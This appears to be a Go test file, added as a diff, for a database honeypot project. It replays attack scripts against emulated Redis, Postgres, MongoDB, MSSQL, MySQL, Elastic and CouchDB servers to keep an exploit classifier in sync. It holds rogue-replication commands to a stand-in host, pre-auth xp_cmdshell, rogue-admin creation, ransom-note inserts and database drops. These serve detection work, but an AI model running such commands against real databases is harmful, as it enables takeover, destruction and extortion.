@@ -1,0 +1,261 @@
+package simnet
+
+import (
+	"bufio"
+	"context"
+	"net"
+	"net/netip"
+	"sync"
+	"testing"
+	"time"
+
+	"decoydb/internal/bson"
+	"decoydb/internal/classify"
+	"decoydb/internal/core"
+	"decoydb/internal/mssql"
+	"decoydb/internal/mysql"
+)
+
+// TestExploitActionDrift pins classify's exploitActions tables to the
+// protocol emulations: every action classify treats as exploit-grade
+// must be producible by driving the DBMS's honeypot with a real client
+// script. If a table entry can no longer be emitted — because a
+// normaliser changed its token or a handler dropped a command — the
+// classifier is silently blind to that attack and this test fails.
+func TestExploitActionDrift(t *testing.T) {
+	cases := []struct {
+		dbms    string
+		level   core.Level
+		scripts []Script
+	}{
+		{
+			dbms: core.Redis, level: core.Low,
+			scripts: []Script{
+				// SLAVEOF, MODULE LOAD, SYSTEM.EXEC, CONFIG SET dir,
+				// CONFIG SET dbfilename, FLUSHDB, SET — the worm chain.
+				redisCommands(p2pinfectCmds("198.51.100.77", 60101, "cafe1234")),
+				// EVAL — the Lua sandbox escape.
+				redisCommands(redisCVECmds()),
+				redisCommands([][]string{
+					{"REPLICAOF", "198.51.100.77", "6379"},
+					{"FLUSHALL"},
+				}),
+			},
+		},
+		{
+			dbms: core.Postgres, level: core.Medium,
+			scripts: []Script{
+				pgLogin("postgres", "postgres", append(
+					kinsingQueries("198.51.100.77", "d41d8cd9"), // DROP/CREATE TABLE, COPY FROM PROGRAM
+					append(privilegeQueries("hunter2"), // ALTER USER
+						"ALTER ROLE replicator WITH LOGIN",
+						"CREATE USER mallory WITH PASSWORD 'pw'",
+						"INSERT INTO readme VALUES ('pay up')",
+						"UPDATE pg_authid SET rolsuper = true",
+						"DELETE FROM readme",
+					)...)),
+			},
+		},
+		{
+			dbms: core.Elastic, level: core.Medium,
+			scripts: []Script{
+				elasticRequests(luciferReqs("198.51.100.77", 60102)), // SEARCH SCRIPT-EXEC
+			},
+		},
+		{
+			dbms: core.MongoDB, level: core.High,
+			scripts: []Script{
+				mongoCmds([]bson.D{
+					{{Key: "insert", Val: "notes"},
+						{Key: "documents", Val: bson.A{bson.D{{Key: "content", Val: "pay up"}}}},
+						{Key: "$db", Val: "shop"}},
+					{{Key: "delete", Val: "notes"},
+						{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
+						{Key: "$db", Val: "shop"}},
+					{{Key: "drop", Val: "notes"}, {Key: "$db", Val: "shop"}},
+					{{Key: "dropDatabase", Val: int32(1)}, {Key: "$db", Val: "shop"}},
+				}),
+			},
+		},
+		{
+			dbms: core.MSSQL, level: core.Low,
+			scripts: []Script{
+				mssqlPreauthBatch("EXEC master..xp_cmdshell 'whoami'"),
+			},
+		},
+		{
+			dbms: core.MySQL, level: core.Medium,
+			scripts: []Script{
+				mysqlQueries("root", []string{
+					"INSERT INTO readme VALUES ('pay up')",
+					"UPDATE users SET pass = 'x'",
+					// Not `FROM users` — that trips the honeytoken result
+					// path before the DELETE branch is reached.
+					"DELETE FROM orders",
+					"DROP TABLE users",
+					"DROP DATABASE shop",
+					"CREATE TABLE z(cmd_output text)",
+					"CREATE DATABASE pwned",
+					"ALTER TABLE users ADD COLUMN c text",
+					"ALTER USER root IDENTIFIED BY 'x'",
+					"CREATE USER mallory IDENTIFIED BY 'pw'",
+				}),
+			},
+		},
+		{
+			dbms: core.CouchDB, level: core.Medium,
+			scripts: []Script{
+				elasticRequests([]httpReq{
+					{method: "PUT", target: "/_users/org.couchdb.user:hacker",
+						body: `{"type":"user","name":"hacker","roles":["_admin"],"password":"x"}`},
+					{method: "DELETE", target: "/customers"},
+					{method: "PUT", target: "/backup"},
+					{method: "PUT", target: "/customers/README", body: `{"content":"pay up"}`},
+					{method: "POST", target: "/customers/README2", body: `{"content":"pay up"}`},
+					{method: "PUT", target: "/_config/admins/hacker", body: `"pw"`},
+					{method: "DELETE", target: "/_config/admins/hacker"},
+				}),
+			},
+		},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.dbms, func(t *testing.T) {
+			want := classify.ExploitActions(tc.dbms)
+			if len(want) == 0 {
+				t.Fatalf("no exploit actions registered for %s", tc.dbms)
+			}
+			info := core.Info{
+				DBMS: tc.dbms, Level: tc.level, Port: core.DefaultPort(tc.dbms),
+				Config: core.ConfigDefault, Group: core.GroupSingle, VM: "drift",
+			}
+			in := &instance{info: info, handler: buildHandler(info, 1)}
+			sink := &cmdSink{seen: map[string]bool{}}
+			src := netip.MustParseAddrPort("203.0.113.200:40000")
+			for i, script := range tc.scripts {
+				j := job{
+					at:  core.ExperimentStart.Add(time.Duration(i) * time.Minute),
+					src: src, inst: in, script: script,
+				}
+				if err := runSession(context.Background(), j, sink); err != nil {
+					t.Fatalf("script %d: %v", i, err)
+				}
+			}
+			for _, action := range want {
+				if !sink.seen[action] {
+					t.Errorf("exploit action %q not producible by the %s emulation (saw %v)",
+						action, tc.dbms, sink.actions())
+				}
+			}
+			// And no drift in the other direction either: everything the
+			// scripts produced that Step grades as exploiting must be a
+			// table entry — Step's verdict comes from the table, so this
+			// holds by construction unless Step changes shape.
+			for a := range sink.seen {
+				if classify.Step(tc.dbms, a, "") == classify.Exploiting {
+					found := false
+					for _, w := range want {
+						if w == a {
+							found = true
+							break
+						}
+					}
+					if !found {
+						t.Errorf("action %q grades as exploiting but is missing from ExploitActions(%s)", a, tc.dbms)
+					}
+				}
+			}
+		})
+	}
+}
+
+// cmdSink collects the normalised command tokens a session emits.
+type cmdSink struct {
+	mu   sync.Mutex
+	seen map[string]bool
+}
+
+func (c *cmdSink) Record(e core.Event) {
+	if e.Kind != core.EventCommand {
+		return
+	}
+	c.mu.Lock()
+	c.seen[e.Command] = true
+	c.mu.Unlock()
+}
+
+func (c *cmdSink) actions() []string {
+	out := make([]string, 0, len(c.seen))
+	for a := range c.seen {
+		out = append(out, a)
+	}
+	return out
+}
+
+// mssqlPreauthBatch sends a SQLBatch straight after PRELOGIN, skipping
+// LOGIN7 — nothing legitimate does this, and the honeypot logs it as
+// the exploit-grade SQLBATCH-PREAUTH observation.
+func mssqlPreauthBatch(sql string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		pre := mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)}
+		if err := mssql.WritePacket(conn, pre); err != nil {
+			return err
+		}
+		if _, err := mssql.ReadPacket(br); err != nil {
+			return err
+		}
+		payload := make([]byte, 0, len(sql)*2)
+		for _, r := range sql { // UCS-2LE, as TDS batches are encoded
+			payload = append(payload, byte(r), byte(r>>8))
+		}
+		return mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktSQLBatch, Payload: payload})
+	}
+}
+
+// mysqlQueries logs into the medium-interaction MySQL honeypot (any
+// credentials are accepted) and runs text-protocol queries.
+func mysqlQueries(user string, queries []string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		if _, err := mysql.ReadPacket(br); err != nil {
+			return err
+		}
+		lr := mysql.LoginRequest{
+			Capabilities: mysql.CapLongPassword | mysql.CapProtocol41 |
+				mysql.CapSecureConnection | mysql.CapPluginAuth,
+			MaxPacket: 1 << 24, Charset: 0x21,
+			User: user, AuthData: []byte{0x01},
+		}
+		if err := mysql.WritePacket(conn, mysql.Packet{Seq: 1, Payload: mysql.EncodeLoginRequest(lr)}); err != nil {
+			return err
+		}
+		if _, err := mysql.ReadPacket(br); err != nil { // OK: medium accepts anyone
+			return err
+		}
+		for _, q := range queries {
+			if err := mysql.WritePacket(conn, mysql.Packet{Seq: 0, Payload: append([]byte{mysql.ComQuery}, q...)}); err != nil {
+				return err
+			}
+			pkt, err := mysql.ReadPacket(br)
+			if err != nil {
+				return err
+			}
+			if len(pkt.Payload) > 0 && pkt.Payload[0] != 0x00 && pkt.Payload[0] != 0xff {
+				// Result set: column defs, EOF, rows, EOF.
+				for eofs := 0; eofs < 2; {
+					p, err := mysql.ReadPacket(br)
+					if err != nil {
+						return err
+					}
+					if len(p.Payload) > 0 && p.Payload[0] == 0xfe && len(p.Payload) < 9 {
+						eofs++
+					}
+				}
+			}
+		}
+		return nil
+	}
+}
